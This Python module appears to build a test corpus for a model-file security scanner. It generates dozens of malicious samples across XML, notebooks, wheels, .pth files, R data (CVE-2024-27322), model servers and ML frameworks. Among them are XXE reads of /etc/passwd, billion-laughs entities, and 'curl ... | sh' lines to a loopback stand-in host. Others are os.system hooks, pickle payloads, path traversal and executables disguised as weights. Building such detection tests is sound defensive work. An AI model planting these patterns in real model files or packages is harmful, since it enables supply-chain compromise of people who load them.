"""XML, notebooks, wheels, R data, Flax, Triton and the other formats that can carry code."""

from __future__ import annotations

import bz2
import json
import struct
from collections.abc import Iterator

from corpus.graphs import gguf_of
from corpus.opcodes import payload
from corpus.pickle_disguise import gz, tar_of
from corpus.repositories import CODE
from corpus.sample import INCONCLUSIVE, Family, Sample
from samples import block, number, zip_of

BAD = CODE["system"].encode()
ELF = b"\x7fELF\2\1\1" + bytes(57)


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _xml()
    yield from _code_carriers()
    yield from _r_data()
    yield from _served()
    yield from _frameworks()


def _xml() -> Iterator[Sample]:
    made = Family("xml", "XML entities")
    pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header description="{}"/></PMML>'
    net = '<net name="m" version="11"><layers><layer id="0" name="x" type="{}" version="opset1"/></layers></net>'
    head = '<?xml version="1.0"?>\n'
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    laughs = (
        "<!DOCTYPE a [<!ENTITY a0 'lol'>"
        + "".join(f"<!ENTITY a{i + 1} '{f'&a{i};' * 10}'>" for i in range(9))
        + "]>\n"
    )
    bodies = {
        "pmml-entity": ("model.pmml", head + entity + pmml.format("&x;")),
        "pmml-parameter-entity": ("model.pmml", head + '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>\n' + pmml.format("x")),
        "pmml-laughs": ("model.xml", head + laughs + pmml.format("&a9;")),
        "pmml-external-dtd": ("model.pmml", head + '<!DOCTYPE PMML SYSTEM "http://127.0.0.1:9/x.dtd">\n' + pmml.format("x")),
        "openvino-entity": ("model.xml", head + entity + net.format("&x;")),
        "openvino-laughs": ("openvino_model.xml", head + laughs + net.format("&a9;")),
        "include": ("model.pmml", head + pmml.format("x").replace("<Header", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><Header')),
        "stylesheet": ("model.pmml", head + '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n' + pmml.format("x")),
    }  # fmt: skip
    for title, (file, text) in bodies.items():
        yield made(title, file, text.encode())
    yield made(
        "pmml-utf-16",
        "model.pmml",
        (head.replace("?>", ' encoding="utf-16"?>') + entity + pmml.format("&x;")).encode(
            "utf-16"
        ),
    )
    custom = '<net name="m" version="11"><layers><layer id="0" name="x" type="Run" version="extension"/></layers></net>'
    lib = Family("xml", "OpenVINO")
    yield lib(
        "openvino-extension-library",
        "model",
        {
            "model.xml": (head + custom).encode(),
            "model.bin": bytes(8),
            "libcustom_extension.so": ELF,
        },
    )
    yield lib(
        "openvino-offset-lies",
        "model",
        {
            "model.xml": (
                head
                + net.format("Const").replace(
                    "/></layers>",
                    '><data offset="99999999999" size="8" element_type="f32" shape="2"/></layer></layers>',
                )
            ).encode(),
            "model.bin": bytes(8),
        },
    )


def _notebook(*cells: str, outputs: object = ()) -> bytes:
    made = [
        {
            "cell_type": "code",
            "metadata": {},
            "source": cell.splitlines(keepends=True),
            "outputs": list(outputs),
            "execution_count": 1,
        }
        for cell in cells
    ]
    return json.dumps(
        {"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


def _code_carriers() -> Iterator[Sample]:
    made = Family("misc", "notebooks")
    yield made("notebook-system", "train.ipynb", _notebook("x = 1", CODE["system"]))
    yield made("notebook-shell", "train.ipynb", _notebook("!curl http://127.0.0.1:9/ | sh"))
    yield made(
        "notebook-magic", "demo.ipynb", _notebook("%%bash\ncurl -s http://127.0.0.1:9/x | bash")
    )
    yield made("notebook-exec", "demo.ipynb", _notebook(CODE["exec-base64"]))
    yield made("notebook-environment", "demo.ipynb", _notebook(CODE["environment"]))
    script = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": "<script src='http://127.0.0.1:9/x.js'></script>"},
        }
    ]
    yield made("notebook-script-output", "demo.ipynb", _notebook("x = 1", outputs=script))
    packages = Family("misc", "wheels and .pth")
    info = {
        "p-1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: p\nVersion: 1\n",
        "p-1.dist-info/RECORD": b"",
        "p-1.dist-info/WHEEL": b"Wheel-Version: 1.0\n",
    }
    yield packages("wheel-code", "p-1-py3-none-any.whl", zip_of({"p/__init__.py": BAD, **info}))
    yield packages(
        "wheel-pth",
        "p-1-py3-none-any.whl",
        zip_of({"p/__init__.py": b"", "p.pth": b"import os; os.system('true')\n", **info}),
    )
    yield packages(
        "wheel-pickle", "p-1-py3-none-any.whl", zip_of({"p/model.pkl": payload(), **info})
    )
    yield packages("wheel-slip", "p-1-py3-none-any.whl", zip_of({"../../x.py": b"x", **info}))
    yield packages(
        "wheel-data-scripts",
        "p-1-py3-none-any.whl",
        zip_of({"p-1.data/scripts/x": b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n", **info}),
    )
    yield packages("pth-import", "x.pth", b"import os; os.system('true')\n")
    yield packages(
        "pth-exec",
        "distutils-precedence.pth",
        b"# comment\nimport base64;exec(base64.b64decode('cGFzcw=='))\n",
    )
    yield packages("pth-tab", "easy.pth", b"import\tsubprocess; subprocess.call(['true'])\n")
    yield packages(
        "sdist-setup",
        "p-1.tar.gz",
        gz(tar_of({"p-1/setup.py": BAD, "p-1/PKG-INFO": b"Name: p\n"})),
    )
    programs = Family("misc", "programs")
    shell = b"MZqFpD='\n" + bytes(64) + b'\'\n#\'"\nexec "$0"\n'
    yield programs(
        "llamafile",
        "model.llamafile",
        shell
        + zip_of(
            {
                "model.gguf": gguf_of({"general.architecture": "llama"}),
                ".args": b"-m\nmodel.gguf\n",
            }
        ),
        source="PAIT-LMAFL-300",
    )
    yield programs(
        "llamafile-exe",
        "model.llamafile",
        ELF + zip_of({"model.gguf": gguf_of({"a": "b"})}),
        source="PAIT-LMAFL-300",
    )
    yield programs("elf-named-bin", "pytorch_model.bin", ELF)
    yield programs(
        "pe-named-model",
        "model.onnx",
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20),
    )
    yield programs("mach-o-named-model", "model.safetensors", b"\xcf\xfa\xed\xfe" + bytes(60))
    yield programs(
        "shell-script-model", "model.pt", b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n"
    )
    yield programs(
        "elf-in-zip", "model.zip", zip_of({"weights.bin": ELF, "config.json": b"{}"})
    )


def _r_data() -> Iterator[Sample]:
    made = Family("misc", "R data", "CVE-2024-27322")
    head = b"X\n" + struct.pack(">III", 3, 0x040301, 0x030500) + struct.pack(">I", 5) + b"UTF-8"

    def symbol(name: str) -> bytes:
        raw = name.encode()
        return struct.pack(">II", 1, 0x00040009) + struct.pack(">I", len(raw)) + raw

    call = struct.pack(">I", 6) + symbol("system") + struct.pack(">I", 2) + struct.pack(">II", 0x10, 1) \
        + struct.pack(">II", 0x00040009, 4) + b"true" + struct.pack(">I", 254)  # fmt: skip
    promise = struct.pack(">I", 5) + struct.pack(">I", 253) + struct.pack(">I", 251) + call
    yield made("rds-promise", "model.rds", gz(head + promise))
    yield made("rds-promise-plain", "model.rds", head + promise)
    yield made("rds-promise-bz2", "model.rds", bz2.compress(head + promise))
    yield made(
        "rds-promise-in-list", "model.RDS", gz(head + struct.pack(">II", 19, 1) + promise)
    )
    text = b"A\n3\n262913\n197888\n5\nUTF-8\n5\n253\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\ntrue\n254\n"
    yield made("rds-promise-ascii", "model.rds", text)
    yield made(
        "rda-promise",
        "model.rda",
        gz(
            b"RDX3\n"
            + head
            + struct.pack(">I", 1026)
            + symbol("x")
            + promise
            + struct.pack(">I", 254)
        ),
    )
    yield made(
        "rds-cut", "model.rds", gz(head + struct.pack(">II", 14, 1000)), verdict=INCONCLUSIVE
    )


def _msgpack(of: object) -> bytes:
    if isinstance(of, dict):
        return bytes([0x80 | len(of)]) + b"".join(
            _msgpack(k) + _msgpack(v) for k, v in of.items()
        )
    if isinstance(of, str):
        return b"\xd9" + bytes([len(of)]) + of.encode()
    if isinstance(of, bytes):
        return b"\xc5" + struct.pack(">H", len(of)) + of
    return bytes([of]) if isinstance(of, int) else b"\xc0"


def _served() -> Iterator[Sample]:
    made = Family("misc", "model servers")
    manifest = {
        "createdOn": "x",
        "runtime": "python",
        "model": {
            "modelName": "m",
            "serializedFile": "m.pt",
            "handler": "handler.py",
            "modelVersion": "1",
        },
        "archiverVersion": "0",
    }
    mar = {
        "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
        "m.pt": b"\x80\x02N.",
        "handler.py": BAD,
    }
    yield made("mar-handler", "model.mar", zip_of(mar))
    yield made("mar-handler-tar", "model.mar", gz(tar_of(mar)))
    yield made(
        "mar-weights", "model.mar", zip_of({**mar, "handler.py": b"x = 1\n", "m.pt": payload()})
    )
    yield made(
        "mar-requirements",
        "model.mar",
        zip_of(
            {
                **mar,
                "handler.py": b"x = 1\n",
                "requirements.txt": b"--extra-index-url http://127.0.0.1:9/\np\n",
            }
        ),
    )
    config = b'name: "m"\nbackend: "python"\nmax_batch_size: 0\n'
    yield made(
        "triton-python",
        "model_repository",
        {"m/config.pbtxt": config, "m/1/model.py": CODE["in-init"].encode()},
    )
    yield made(
        "triton-library",
        "model_repository",
        {
            "m/config.pbtxt": b'name: "m"\nbackend: "custom"\ndefault_model_filename: "../../x.so"\n',
            "m/1/model.so": ELF,
        },
    )
    env = b'name: "m"\nbackend: "python"\nparameters: {\n  key: "EXECUTION_ENV_PATH"\n  value: {string_value: "/tmp/../../x.tar.gz"}\n}\n'
    yield made(
        "triton-environment",
        "model_repository",
        {"m/config.pbtxt": env, "m/1/model.py": b"x = 1\n"},
    )
    yield made(
        "bento",
        "model.bento",
        tar_of({"bento.yaml": b"service: service:svc\n", "src/service.py": BAD}),
    )
    comfy = {
        "3": {"class_type": "KSampler", "inputs": {}},
        "4": {
            "class_type": "ExecPythonCode",
            "inputs": {"code": "import os; os.system('true')"},
        },
    }
    yield made("comfyui-workflow", "workflow.json", json.dumps(comfy).encode())
    yield made(
        "comfyui-eval",
        "workflow.json",
        json.dumps(
            {
                "nodes": [
                    {
                        "id": 1,
                        "type": "PythonEval",
                        "widgets_values": ["__import__('os').system('true')"],
                    }
                ]
            }
        ).encode(),
    )
    yield made(
        "yolo-yaml",
        "yolov8.yaml",
        b"nc: 80\nbackbone:\n  - [-1, 1, \"__import__('os').system('true')\", [64, 3, 2]]\n",
    )
    yield made(
        "yolo-download",
        "data.yaml",
        b"path: coco\ntrain: images\ndownload: |\n  import os\n  os.system('true')\nnames: {0: a}\n",
    )
    yield made(
        "modelfile",
        "Modelfile",
        b'FROM ./model.gguf\nTEMPLATE """{{ .System }}"""\nADAPTER ../../../etc/passwd\n',
    )
    yield made(
        "dvc-pipeline",
        "dvc.yaml",
        b"stages:\n  train:\n    cmd: curl http://127.0.0.1:9/ | sh\n",
    )


def _frameworks() -> Iterator[Sample]:
    made = Family("misc", "other frameworks")
    inner = payload()
    yield made("flax-ext-pickle", "flax_model.msgpack", _msgpack({"params": {"w": inner}}))
    yield made(
        "flax-ext-type",
        "flax_model.msgpack",
        b"\x81\xa1w\xc8" + struct.pack(">H", len(inner)) + b"\x05" + inner,
    )
    yield made(
        "flax-object-array",
        "model.msgpack",
        b"\x81\xa1w\xc7\x0c\x01" + b"\x93\x91\x01\xa6object\xc4\x00"[:12],
    )
    yield made(
        "flax-depth-bomb",
        "flax_model.msgpack",
        b"\x81\xa1w" + b"\x91" * 60_000 + b"\x01",
        verdict=INCONCLUSIVE,
    )
    yield made("lightgbm-pickle", "model.txt", payload())
    yield made(
        "catboost-pickle-tail",
        "model.cbm",
        b"CBM1" + struct.pack("<I", 8) + bytes(8) + payload(),
    )
    yield made("xgboost-pickle", "model.ubj", payload(4))
    xgb = {
        "learner": {
            "attributes": {"scikit_learn": json.dumps({"_target_": "os.system"})},
            "gradient_booster": {"name": "gbtree"},
        },
        "version": [3, 2, 0],
    }
    yield made("xgboost-json-target", "model.json", json.dumps(xgb).encode())
    yield made("paddle-params", "model.pdparams", payload())
    yield made(
        "paddle-py-func",
        "model.pdmodel",
        block(1, number(1, 0) + number(2, 0xFFFFFFFF) + block(4, block(3, "py_func")))
        + block(4, number(1, 0)),
    )
    layer = block(1, "custom") + block(500, block(10, "EvilLayer") + block(40, "x"))
    yield made(
        "coreml-custom-layer",
        "model.mlmodel",
        number(1, 4) + block(2, block(100, b"")) + block(500, block(1, layer)),
    )
    yield made(
        "coreml-custom-model",
        "model.mlmodel",
        number(1, 4) + block(2, b"") + block(555, block(10, "EvilModel")),
    )
    yield made(
        "coreml-package-up",
        "model.mlpackage",
        {
            "Manifest.json": json.dumps(
                {
                    "fileFormatVersion": "1.0.0",
                    "rootModelIdentifier": "A",
                    "itemInfoEntries": {
                        "A": {
                            "path": "../../etc/passwd",
                            "name": "model.mlmodel",
                            "author": "x",
                        }
                    },
                }
            ).encode(),
            "Data/x": b"x",
        },
    )
    yield made(
        "tflite-offset", "model.tflite", struct.pack("<I", 0x7FFFFF00) + b"TFL3" + bytes(64)
    )
    yield made(
        "executorch-offset", "model.pte", struct.pack("<I", 0x7FFFFF00) + b"ET12" + bytes(64)
    )
    yield made(
        "orbax-pickle",
        "checkpoint",
        {"_METADATA": b"{}", "default/array_metadatas/process_0": inner},
    )
    yield made(
        "spacy-pickle",
        "model",
        {"meta.json": b'{"lang":"en","pipeline":["x"]}', "vocab/lookups.bin": inner},
    )
    yield made(
        "stable-baselines",
        "policy.zip",
        zip_of(
            {
                "data": json.dumps(
                    {
                        "policy_class": {
                            ":type:": "<class 'abc.ABCMeta'>",
                            ":serialized:": __import__("base64").b64encode(inner).decode(),
                        }
                    }
                ).encode(),
                "policy.pth": b"\x80\x02N.",
            }
        ),
    )
    yield made("fasttext-pickle", "model.bin", payload(4))
    yield made(
        "tensorrt-plugin",
        "model",
        {"model.engine": b"ftrt" + bytes(60), "plugins/libx.so": ELF},
    )
    yield made(
        "gensim-beside",
        "model",
        {"word2vec.model": inner, "word2vec.model.npy": b"\x93NUMPY\1\0\x02\0{}"},
    )
    yield made("hickle", "model.hkl", inner)
    yield made("dill-file", "session.dill", payload(4))
    yield made("cloudpickle-file", "policy.cloudpickle", payload(5))
